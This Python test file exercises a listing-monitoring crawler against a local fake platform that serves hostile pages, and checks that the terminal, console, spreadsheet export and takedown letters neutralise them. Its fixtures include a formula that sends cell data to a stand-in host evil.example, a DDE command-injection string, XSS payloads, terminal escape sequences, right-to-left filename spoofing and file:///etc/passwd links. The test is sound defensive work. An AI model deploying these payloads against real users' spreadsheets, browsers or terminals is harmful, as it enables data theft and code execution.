"""Every crawled field is written by the people we monitor. A platform on localhost serves listings built to break
things: formulas in title and seller, markup and scripts, control characters, right-to-left overrides, a title of
100,000 characters, links that are no web URLs, a GBK page declared UTF-8 and a UTF-8 page with broken bytes. One
crawl takes them through detection into the store, and every way staff read a lead carries them safely: the
terminal, the console, the spreadsheet export, the takedown letter, and the evidence, byte for byte."""
from __future__ import annotations

import hashlib
import re
import subprocess
import sys
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from casework.export import CELL_CHARS, FORMULA_START
from tests.fixtures.workspace import CrawlWorkspace, served_platform

LANTIAN = Path(sys.executable).with_name("lantian")
AD = "国家知识产权局指定代理，内部渠道，包授权，三天下证，联系微信 abc123。"
RLO, PDF = "\u202e", "\u202c"
CONTROL = "\x01\x07\x08\x0b\x0c\x1b]0;pwned\x07\x7f"


def page(title: str, seller: str, text: str = AD, images: tuple[str, ...] = (), canonical: str = "") -> str:
    head = f'<link rel="canonical" href="{canonical}">' if canonical else ""
    pictures = "".join(f'<img src="{src}">' for src in images)
    return (f'<!doctype html><html><head><meta charset="utf-8">{head}</head><body><h1 class="item-title">{title}</h1>'
            f'<a class="seller-link" href="/shop/1">{seller}</a><span class="shop-location">上海 浦东新区</span>'
            f'<div class="item-desc">{text}</div><div class="item-images">{pictures}</div></body></html>')


LISTINGS: dict[str, bytes] = {
    "formula": page('=HYPERLINK("http://evil.example/?"&amp;A1,"点击") 商标注册', "+cmd|' /C calc'!A0 知产").encode(),
    "markup": page('&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(2)</script>专利代理 包过',
                   '@SUM(1+1) <img src=x onerror="alert(3)">代理').encode(),
    "control": page(f"商标{CONTROL}注册 内部渠道", f"-2+3 卖家{CONTROL}").encode(),
    "bidi": page(f"商标注册 {RLO}gnp.exe{PDF} 内部渠道 {RLO}未闭合", f"{RLO}卖\u200b家\u2066").encode(),
    "long": page("商标注册 " + "标" * 100_000, "长标题卖家").encode(),
    "links": page("商标注册 内部渠道 图片", "图片卖家", canonical="http://[::1/item/links", images=(
        "javascript:alert(1)", "data:image/png;base64," + "A" * 10_000, "file:///etc/passwd", "http://[::1/x.png",
        "//evil.example:99999/x.png", "/img/none.png")).encode(),
    "gbk": page("商标注册 内部渠道 GBK页", "GBK卖家").encode("gbk"),
    "broken": page("商标注册 内部渠道 坏字节", "坏字节卖家").encode().replace("坏字节".encode(), b"\xff\xfe\xc3\x28"),
}


class Platform(BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        if self.path.startswith("/search") and "page=1" in self.path:
            cards = "".join(f'<div class="item-card"><a class="item-link" href="/item/{key}">x</a></div>'
                            for key in LISTINGS)
            body, status = f"<html><body>{cards}</body></html>".encode(), 200
        else:
            key = self.path.removeprefix("/item/")
            body, status = (LISTINGS[key], 200) if key in LISTINGS else (b"<html><body></body></html>", 404)
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")  # the GBK page too: mislabelled
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


PLATFORM = {
    "description": "恶意测试平台", "operator": {"legal_name": "恶意测试平台运营有限公司", "complaint_channel": "测试"},
    "search": {"url": "/search?q={keyword}&page={page}", "max_pages": 1},
    "listing": {"card": "div.item-card", "link": "a.item-link::attr(href)"},
    "detail": {"title": "h1.item-title", "text": "div.item-desc", "seller": "a.seller-link",
               "seller_url": "a.seller-link::attr(href)", "location": "span.shop-location",
               "images": "div.item-images img::attr(src)"},
    "seller": {"follow": False}, "politeness": {"concurrency": 4, "delay": 0}, "keywords": ["商标注册"],
}


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[CrawlWorkspace]:
    with served_platform(tmp_path, Platform, PLATFORM) as work:
        yield work


def lantian(work: CrawlWorkspace, *args: str) -> str:
    result = subprocess.run([str(LANTIAN), *args], env=work.env, capture_output=True, text=True, timeout=900)
    assert result.returncode == 0, f"{args}: {result.stdout}\n{result.stderr}"
    return result.stdout


@pytest.mark.slow
@pytest.mark.browser
def test_hostile_listings_from_crawl_to_takedown(hostile: CrawlWorkspace, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    lantian(hostile, "crawl", "-p", "hostile", "--max-images", "0", "--quiet")
    from index.sqlite_store import SqliteLeadStore

    store = SqliteLeadStore(hostile.data / "index" / "leads.sqlite3")
    leads = {lead.url.rsplit("/", 1)[-1]: lead for lead in store.iter_leads()}
    assert set(leads) == set(LISTINGS), "every listing is a lead: none lost to what it carries"
    assert leads["gbk"].title == "商标注册 内部渠道 GBK页" and leads["gbk"].seller == "GBK卖家"
    assert leads["broken"].seller == "\ufffd\ufffd\ufffd(卖家", "broken bytes read as U+FFFD, the rest kept"
    assert leads["links"].image_urls == [f"{hostile.simulator.endpoints['hostile']}/img/none.png"]
    assert leads["formula"].title.startswith('=HYPERLINK("http://evil.example/?"&A1')
    assert leads["markup"].title == "<script>alert(1)</script>专利代理 包过", "the text shown, not the markup"
    assert len(leads["long"].title) == 100_005 and RLO in leads["bidi"].title and "\x1b" in leads["control"].title

    for lead in leads.values():  # the evidence is the page as served
        raw = Path(lead.raw_path or "").read_bytes()
        assert hashlib.sha256(raw).hexdigest() == lead.raw_sha256
        assert raw == LISTINGS[lead.url.rsplit("/", 1)[-1]]
    assert "OK" in lantian(hostile, "evidence", "verify")

    shown = "".join(lantian(hostile, "leads", "show", lead.id) for lead in leads.values())
    shown += lantian(hostile, "leads", "list", "--limit", "20")
    assert "\x1b]0;pwned" not in shown and RLO not in shown and "\x07" not in shown
    assert "〈U+202E〉gnp.exe〈U+202C〉" in shown, "an override is shown as what it is, not obeyed"
    assert leads["bidi"].seller == f"{RLO}卖\u200b家\u2066", "the lead keeps the field as fetched"

    from casework import workflow

    for lead in leads.values():
        workflow.set_status(store, lead.id, "reviewing", by="alice")
        workflow.set_status(store, lead.id, "confirmed", by="alice", why="证据充分")
    store.close()
    export = tmp_path / "cases.xlsx"
    lantian(hostile, "cases", "export", "--out", str(export))
    cells = [str(cell.value) for row in openpyxl.load_workbook(export).active.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert max(map(len, cells)) <= CELL_CHARS and not [cell for cell in cells if re.search("[\x00-\x08\x0b\x0c]", cell)]
    assert not [cell for cell in cells if re.search("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff]", cell)]
    assert "〈U+202E〉卖〈U+200B〉家〈U+2066〉" in cells
    letters = tmp_path / "letters"
    output = lantian(hostile, "takedown", "--platform", "hostile", "--out", str(letters), "--by", "alice")
    assert "8 leads → takedown_requested" in output
    assert {path.suffix for path in letters.iterdir()} == {".docx", ".pdf", ".csv", ".zip"}
    from docx import Document

    [letter] = letters.glob("*.docx")
    letter_text = "".join(cell.text for table in Document(str(letter)).tables for row in table.rows
                          for cell in row.cells)
    assert "〈U+202E〉gnp.exe〈U+202C〉" in letter_text and RLO not in letter_text and "\u200b" not in letter_text

    from casework.console.app import create_app
    from casework.users import save_user
    from index.sqlite_store import SqliteLeadStore as Store

    monkeypatch.setenv("LANTIAN_CONSOLE_SECRET", "test-secret-not-for-production")
    save_user("root", "admin", "admin-pass-123", tmp_path / "users.yaml")
    with Store(hostile.data / "index" / "leads.sqlite3") as console_store:
        client = TestClient(create_app(console_store, tmp_path / "users.yaml"), follow_redirects=True)
        login = client.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', login.text).group(1)  # type: ignore[union-attr]
        client.post("/login", data={"username": "root", "password": "admin-pass-123", "csrf_token": token})
        for path in ["/leads", *(f"/leads/{lead.id}" for lead in leads.values())]:
            page_html = client.get(path)
            assert page_html.status_code == 200 and "<script>alert" not in page_html.text
            assert 'onerror="alert' not in page_html.text
            assert RLO not in page_html.text and "\u200b" not in page_html.text
        bidi_page = client.get(f"/leads/{leads['bidi'].id}").text
        assert "〈U+202E〉gnp.exe〈U+202C〉" in bidi_page
        assert re.search(r'id="invisible-characters">[^<]*标题 3 个、发布者 3 个', bidi_page), bidi_page
